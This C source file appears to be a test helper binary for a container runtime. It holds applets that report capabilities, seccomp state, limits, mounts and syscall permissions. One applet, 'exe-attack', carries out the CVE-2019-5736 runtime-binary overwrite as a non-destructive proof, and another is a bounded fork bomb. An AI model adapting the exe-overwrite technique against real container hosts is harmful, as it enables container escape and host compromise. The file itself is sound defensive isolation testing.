/* SPDX-License-Identifier: Apache-2.0 */
/* moat-helper: one static multi-call binary run inside test containers as
 * /bin/moat-helper. The applet is argv[1]. Output is line oriented and
 * stable so shell tests can grep it. Exit status: 0 ok, 1 the applet's
 * operation failed, 2 usage. Never links libmoat. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char **environ;

static const char *errname(int e)
{
        const char *n = strerrorname_np(e);
        return n ? n : "E?";
}

static int fail(const char *what)
{
        int e = errno;
        fprintf(stderr, "moat-helper: %s: %s (%s)\n", what, strerror(e), errname(e));
        return 1;
}

static int usage_error(const char *msg)
{
        fprintf(stderr, "moat-helper: %s\n", msg);
        return 2;
}

static int cat_file(const char *path)
{
        FILE *f = fopen(path, "re");
        char buf[4096];
        size_t n;

        if (!f)
                return fail(path);
        while ((n = fread(buf, 1, sizeof buf, f)) > 0)
                fwrite(buf, 1, n, stdout);
        fclose(f);
        return 0;
}

/* print the lines of a /proc file that start with one of the prefixes */
static int grep_file(const char *path, const char *const *prefixes)
{
        FILE *f = fopen(path, "re");
        char line[1024];

        if (!f)
                return fail(path);
        while (fgets(line, sizeof line, f))
                for (const char *const *p = prefixes; *p; p++)
                        if (strncmp(line, *p, strlen(*p)) == 0) {
                                fputs(line, stdout);
                                break;
                        }
        fclose(f);
        return 0;
}

static int applet_caps(int argc, char **argv)
{
        static const char *const p[] = { "CapInh:", "CapPrm:", "CapEff:", "CapBnd:", "CapAmb:", NULL };
        return grep_file("/proc/self/status", p);
}

static int applet_seccomp_mode(int argc, char **argv)
{
        static const char *const p[] = { "Seccomp:", NULL };
        return grep_file("/proc/self/status", p);
}

static int applet_nnp(int argc, char **argv)
{
        static const char *const p[] = { "NoNewPrivs:", NULL };
        return grep_file("/proc/self/status", p);
}

static int applet_fds(int argc, char **argv)
{
        DIR *d = opendir("/proc/self/fd");
        struct dirent *de;

        if (!d)
                return fail("/proc/self/fd");
        while ((de = readdir(d))) {
                char path[300], target[PATH_MAX];
                ssize_t n;
                if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(d))
                        continue;
                snprintf(path, sizeof path, "/proc/self/fd/%s", de->d_name);
                n = readlink(path, target, sizeof target - 1);
                if (n < 0)
                        snprintf(target, sizeof target, "?");
                else
                        target[n] = 0;
                printf("%s %s\n", de->d_name, target);
        }
        closedir(d);
        return 0;
}

static int applet_exit(int argc, char **argv)
{
        if (argc < 3)
                return usage_error("exit N");
        fflush(stdout);
        _exit(atoi(argv[2]));
}

static int applet_sleep(int argc, char **argv)
{
        double s = argc >= 3 ? strtod(argv[2], NULL) : 3600 * 24;
        struct timespec ts = { (time_t)s, (long)((s - (double)(time_t)s) * 1e9) };

        while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
                ;
        return 0;
}

static int applet_pid(int argc, char **argv)
{
        printf("pid=%d ppid=%d\n", (int)getpid(), (int)getppid());
        return 0;
}

static int applet_id(int argc, char **argv)
{
        gid_t groups[256];
        int n = getgroups(256, groups);

        printf("uid=%u euid=%u gid=%u egid=%u groups=", getuid(), geteuid(), getgid(), getegid());
        for (int i = 0; i < n; i++)
                printf("%s%u", i ? "," : "", groups[i]);
        printf("\n");
        return 0;
}

static int applet_cwd(int argc, char **argv)
{
        char buf[PATH_MAX];

        if (!getcwd(buf, sizeof buf))
                return fail("getcwd");
        printf("%s\n", buf);
        return 0;
}

static int applet_env(int argc, char **argv)
{
        for (char **e = environ; e && *e; e++)
                printf("%s\n", *e);
        return 0;
}

static int applet_hostname(int argc, char **argv)
{
        struct utsname u;

        if (uname(&u) < 0)
                return fail("uname");
        printf("hostname=%s\ndomainname=%s\n", u.nodename, u.domainname);
        return 0;
}

static int applet_rlimits(int argc, char **argv)
{
        static const struct { int res; const char *name; } lim[] = {
                { RLIMIT_AS, "AS" },           { RLIMIT_CORE, "CORE" },     { RLIMIT_CPU, "CPU" },
                { RLIMIT_DATA, "DATA" },       { RLIMIT_FSIZE, "FSIZE" },   { RLIMIT_LOCKS, "LOCKS" },
                { RLIMIT_MEMLOCK, "MEMLOCK" }, { RLIMIT_MSGQUEUE, "MSGQUEUE" }, { RLIMIT_NICE, "NICE" },
                { RLIMIT_NOFILE, "NOFILE" },   { RLIMIT_NPROC, "NPROC" },   { RLIMIT_RSS, "RSS" },
                { RLIMIT_RTPRIO, "RTPRIO" },   { RLIMIT_RTTIME, "RTTIME" }, { RLIMIT_SIGPENDING, "SIGPENDING" },
                { RLIMIT_STACK, "STACK" },
        };
        for (size_t i = 0; i < sizeof lim / sizeof lim[0]; i++) {
                struct rlimit r;
                char s[32], h[32];
                if (getrlimit(lim[i].res, &r) < 0)
                        return fail("getrlimit");
                if (r.rlim_cur == RLIM_INFINITY)
                        snprintf(s, sizeof s, "unlimited");
                else
                        snprintf(s, sizeof s, "%llu", (unsigned long long)r.rlim_cur);
                if (r.rlim_max == RLIM_INFINITY)
                        snprintf(h, sizeof h, "unlimited");
                else
                        snprintf(h, sizeof h, "%llu", (unsigned long long)r.rlim_max);
                printf("%s %s %s\n", lim[i].name, s, h);
        }
        return 0;
}

static int applet_statfs(int argc, char **argv)
{
        struct statfs st;

        if (argc < 3)
                return usage_error("statfs PATH");
        if (statfs(argv[2], &st) < 0)
                return fail(argv[2]);
        printf("0x%lx\n", (unsigned long)st.f_type);
        return 0;
}

static int applet_write(int argc, char **argv)
{
        int fd;
        size_t len;

        if (argc < 4)
                return usage_error("write PATH TEXT [MODE]");
        fd = open(argv[2], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (fd < 0)
                return fail(argv[2]);
        if (argc >= 5 && fchmod(fd, (mode_t)strtoul(argv[4], NULL, 8)) < 0) {
                close(fd);
                return fail(argv[2]);
        }
        len = strlen(argv[3]);
        if (write(fd, argv[3], len) != (ssize_t)len) {
                close(fd);
                return fail(argv[2]);
        }
        if (close(fd) < 0)
                return fail(argv[2]);
        return 0;
}

static int applet_read(int argc, char **argv)
{
        if (argc < 3)
                return usage_error("read PATH");
        return cat_file(argv[2]);
}

static int applet_mounts(int argc, char **argv)
{
        return cat_file("/proc/self/mountinfo");
}

static int applet_cgroup(int argc, char **argv)
{
        return cat_file("/proc/self/cgroup");
}

/* syscall NAME: try a syscall with harmless arguments; print OK or the errno name */
static int applet_syscall(int argc, char **argv)
{
        const char *n;
        long r;

        if (argc < 3)
                return usage_error("syscall NAME");
        n = argv[2];
        errno = 0;
        if (!strcmp(n, "getppid"))
                r = syscall(SYS_getppid);
        else if (!strcmp(n, "mkdir")) {
                char p[64];
                snprintf(p, sizeof p, "/tmp/.moat-helper-%d", (int)getpid());
                r = syscall(SYS_mkdir, p, 0700);
                if (r == 0)
                        rmdir(p);
        } else if (!strcmp(n, "unshare"))
                r = syscall(SYS_unshare, CLONE_NEWUTS);
        else if (!strcmp(n, "unshare-user"))
                r = syscall(SYS_unshare, CLONE_NEWUSER);
        else if (!strcmp(n, "mount"))
                r = syscall(SYS_mount, "none", "/tmp", "tmpfs", MS_RDONLY | MS_REMOUNT | MS_BIND, NULL);
        else if (!strcmp(n, "umount2"))
                r = syscall(SYS_umount2, "/nonexistent-moat", 0);
        else if (!strcmp(n, "chroot"))
                r = syscall(SYS_chroot, "/");
        else if (!strcmp(n, "ptrace"))
                r = syscall(SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, 1, 0, 0);
        else if (!strcmp(n, "personality"))
                r = syscall(SYS_personality, 0xffffffff);
        else if (!strcmp(n, "keyctl"))
                r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0);
        else if (!strcmp(n, "bpf"))
                r = syscall(SYS_bpf, -1, NULL, 0);
        else if (!strcmp(n, "setns"))
                r = syscall(SYS_setns, -1, 0);
        else if (!strcmp(n, "reboot"))
                r = syscall(SYS_reboot, 0, 0, 0, NULL); /* bad magic: EINVAL if allowed */
        else if (!strcmp(n, "kexec_load"))
                r = syscall(SYS_kexec_load, 0, 0, NULL, 0);
        else if (!strcmp(n, "init_module"))
                r = syscall(SYS_init_module, NULL, 0, "");
        else if (!strcmp(n, "open_by_handle_at"))
                r = syscall(SYS_open_by_handle_at, -1, NULL, 0);
        else if (!strcmp(n, "userfaultfd"))
                r = syscall(SYS_userfaultfd, O_CLOEXEC);
        else if (!strcmp(n, "perf_event_open"))
                r = syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0);
        else if (!strcmp(n, "clock_settime"))
                r = syscall(SYS_clock_settime, CLOCK_REALTIME, NULL);
        else if (!strcmp(n, "swapon"))
                r = syscall(SYS_swapon, "/nonexistent-moat", 0);
        else if (!strcmp(n, "acct"))
                r = syscall(SYS_acct, "/nonexistent-moat");
        else if (!strcmp(n, "mknod")) {
                char p[64];
                snprintf(p, sizeof p, "/tmp/.moat-helper-null-%d", (int)getpid());
                r = syscall(SYS_mknod, p, S_IFCHR | 0600, makedev(1, 3));
                if (r == 0)
                        unlink(p);
        } else if (!strcmp(n, "setuid"))
                r = syscall(SYS_setuid, getuid());
        else if (!strcmp(n, "socket"))
                r = syscall(SYS_socket, 2 /* AF_INET */, 1 /* SOCK_STREAM */, 0);
        else if (!strcmp(n, "socket-packet"))
                r = syscall(SYS_socket, 17 /* AF_PACKET */, 3 /* SOCK_RAW */, 0);
        else if (!strcmp(n, "sethostname"))
                r = syscall(SYS_sethostname, "moat-helper", 11);
        else
                return usage_error("syscall: unknown NAME");
        if (r < 0)
                printf("%s\n", errname(errno));
        else
                printf("OK\n");
        return 0;
}

/* The CVE-2019-5736 attack. A process in our pid namespace whose executable
 * is not a file of our own root (a runtime that entered the container, e.g.
 * for exec) is opened O_PATH through /proc/PID/exe; then, for SECONDS, try to
 * reopen it for writing through /proc/self/fd/N. A vulnerable runtime lets the
 * open succeed once its process has exited. We open O_WRONLY without O_TRUNC
 * and write the first byte back unchanged: a successful write is the proof and
 * the binary is not damaged (a sealed memfd copy refuses the write: EPERM).
 * Prints BLOCKED or WROTE on stdout, details on stderr. */
static bool exe_is_foreign(int pid, char *target, size_t size)
{
        char path[64];
        struct stat a, b;
        ssize_t n;

        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        n = readlink(path, target, size - 1);
        if (n < 0)
                return false; /* kernel thread or gone */
        target[n] = 0;
        if (stat(path, &a) < 0)
                return false;
        if (stat(target, &b) < 0)
                return true; /* not reachable from our root: host binary or memfd */
        return a.st_dev != b.st_dev || a.st_ino != b.st_ino;
}

static int applet_exe_attack(int argc, char **argv)
{
        double secs = argc >= 3 ? strtod(argv[2], NULL) : 5;
        int fds[32], pids[32], errs[32], nfds = 0;
        struct timespec start, now;
        struct stat self;
        bool wrote = false;

        if (stat("/proc/self/exe", &self) < 0)
                return fail("/proc/self/exe");
        clock_gettime(CLOCK_MONOTONIC, &start);
        fprintf(stderr, "exe-attack: watching for %.1fs\n", secs);
        for (;;) {
                DIR *d = opendir("/proc");
                struct dirent *de;

                if (!d)
                        return fail("/proc");
                while ((de = readdir(d)) && nfds < 32) {
                        char target[PATH_MAX], path[64];
                        struct stat st;
                        int pid = atoi(de->d_name), fd, i;

                        if (pid <= 0 || pid == getpid())
                                continue;
                        for (i = 0; i < nfds && pids[i] != pid; i++)
                                ;
                        if (i < nfds)
                                continue;
                        if (!exe_is_foreign(pid, target, sizeof target))
                                continue;
                        snprintf(path, sizeof path, "/proc/%d/exe", pid);
                        fd = open(path, O_PATH | O_CLOEXEC);
                        if (fd < 0)
                                continue;
                        if (fstat(fd, &st) == 0 && st.st_dev == self.st_dev && st.st_ino == self.st_ino) {
                                close(fd);
                                continue;
                        }
                        fprintf(stderr, "exe-attack: target pid %d exe %s\n", pid, target);
                        pids[nfds] = pid;
                        errs[nfds] = 0;
                        fds[nfds++] = fd;
                }
                closedir(d);
                for (int i = 0; i < nfds; i++) {
                        char path[64];
                        int w;
                        snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
                        w = open(path, O_WRONLY | O_CLOEXEC);
                        if (w >= 0) {
                                /* prove it: write the first byte back unchanged */
                                int r = open(path, O_RDONLY | O_CLOEXEC);
                                char byte;
                                if (r >= 0 && pread(r, &byte, 1, 0) == 1 && pwrite(w, &byte, 1, 0) == 1) {
                                        fprintf(stderr, "exe-attack: wrote to the exe of pid %d\n", pids[i]);
                                        wrote = true;
                                } else if (errno != errs[i]) {
                                        errs[i] = errno;
                                        fprintf(stderr, "exe-attack: pid %d: opened for writing, write: %s\n",
                                                pids[i], errname(errno));
                                }
                                if (r >= 0)
                                        close(r);
                                close(w);
                                if (wrote)
                                        break;
                                continue;
                        }
                        if (errno != errs[i]) {
                                errs[i] = errno;
                                fprintf(stderr, "exe-attack: pid %d: %s\n", pids[i], errname(errno));
                        }
                }
                if (wrote)
                        break;
                clock_gettime(CLOCK_MONOTONIC, &now);
                if ((double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 >= secs)
                        break;
                usleep(1000);
        }
        if (nfds == 0)
                fprintf(stderr, "exe-attack: no foreign process found\n");
        printf("%s\n", wrote ? "WROTE" : "BLOCKED");
        return 0;
}

static int applet_fork_bomb(int argc, char **argv)
{
        int n = argc >= 3 ? atoi(argv[2]) : 1000, made = 0, err = 0;
        pid_t *kids = calloc((size_t)(n > 0 ? n : 1), sizeof *kids);

        if (!kids)
                return fail("calloc");
        for (int i = 0; i < n; i++) {
                pid_t p = fork();
                if (p < 0) {
                        err = errno;
                        break;
                }
                if (p == 0) {
                        pause();
                        _exit(0);
                }
                kids[made++] = p;
        }
        printf("forked %d\n", made);
        if (err)
                printf("fork failed: %s\n", errname(err));
        for (int i = 0; i < made; i++)
                kill(kids[i], SIGKILL);
        for (int i = 0; i < made; i++)
                waitpid(kids[i], NULL, 0);
        free(kids);
        return 0;
}

static int applet_alloc(int argc, char **argv)
{
        long mb = argc >= 3 ? atol(argv[2]) : 1;
        long page = sysconf(_SC_PAGESIZE);

        for (long i = 0; i < mb; i++) {
                char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
                if (p == MAP_FAILED) {
                        printf("allocated %ld\n", i);
                        return fail("mmap");
                }
                for (long off = 0; off < (1 << 20); off += page)
                        p[off] = 1;
        }
        printf("allocated %ld\n", mb);
        return 0;
}

static void noop_handler(int sig)
{
        (void)sig;
}

static int applet_signals(int argc, char **argv)
{
        sigset_t all;
        siginfo_t si;
        int sig;

        sigfillset(&all);
        for (int s = 1; s < NSIG; s++) {
                struct sigaction sa = { .sa_handler = noop_handler };
                if (s == SIGKILL || s == SIGSTOP)
                        continue;
                sigaction(s, &sa, NULL); /* pid 1 only receives signals it handles */
        }
        sigprocmask(SIG_BLOCK, &all, NULL);
        printf("ready\n");
        fflush(stdout);
        do
                sig = sigwaitinfo(&all, &si);
        while (sig < 0 && errno == EINTR);
        if (sig < 0)
                return fail("sigwaitinfo");
        printf("SIG%s\n", sigabbrev_np(sig) ? sigabbrev_np(sig) : "?");
        return 0;
}

static int applet_tty(int argc, char **argv)
{
        for (int fd = 0; fd <= 2; fd++) {
                struct winsize ws;
                const char *name = isatty(fd) ? ttyname(fd) : NULL;
                printf("%d isatty=%d name=%s", fd, isatty(fd), name ? name : "-");
                if (ioctl(fd, TIOCGWINSZ, &ws) == 0)
                        printf(" rows=%u cols=%u", ws.ws_row, ws.ws_col);
                printf("\n");
        }
        return 0;
}

static int applet_stdin_echo(int argc, char **argv)
{
        char buf[4096];
        ssize_t n;

        while ((n = read(0, buf, sizeof buf)) > 0 || (n < 0 && errno == EINTR))
                if (n > 0 && write(1, buf, (size_t)n) != n)
                        return fail("write");
        return n < 0 ? fail("read") : 0;
}

static const struct applet {
        const char *name;
        int (*fn)(int, char **);
        const char *usage;
} applets[] = {
        { "caps", applet_caps, "" },
        { "fds", applet_fds, "" },
        { "exit", applet_exit, "N" },
        { "sleep", applet_sleep, "SECONDS" },
        { "pid", applet_pid, "" },
        { "id", applet_id, "" },
        { "cwd", applet_cwd, "" },
        { "env", applet_env, "" },
        { "hostname", applet_hostname, "" },
        { "rlimits", applet_rlimits, "" },
        { "statfs", applet_statfs, "PATH" },
        { "write", applet_write, "PATH TEXT [MODE]" },
        { "read", applet_read, "PATH" },
        { "mounts", applet_mounts, "" },
        { "cgroup", applet_cgroup, "" },
        { "seccomp-mode", applet_seccomp_mode, "" },
        { "nnp", applet_nnp, "" },
        { "syscall", applet_syscall, "NAME" },
        { "exe-attack", applet_exe_attack, "[SECONDS]" },
        { "fork-bomb", applet_fork_bomb, "N" },
        { "alloc", applet_alloc, "MB" },
        { "signals", applet_signals, "" },
        { "tty", applet_tty, "" },
        { "stdin-echo", applet_stdin_echo, "" },
};

int main(int argc, char **argv)
{
        int r;

        if (argc >= 2)
                for (size_t i = 0; i < sizeof applets / sizeof applets[0]; i++)
                        if (!strcmp(argv[1], applets[i].name)) {
                                r = applets[i].fn(argc, argv);
                                if (fflush(stdout) != 0 && r == 0)
                                        r = 1;
                                return r;
                        }
        fprintf(stderr, "usage: moat-helper APPLET [ARGS]\napplets:\n");
        for (size_t i = 0; i < sizeof applets / sizeof applets[0]; i++)
                fprintf(stderr, "  %s %s\n", applets[i].name, applets[i].usage);
        return 2;
}
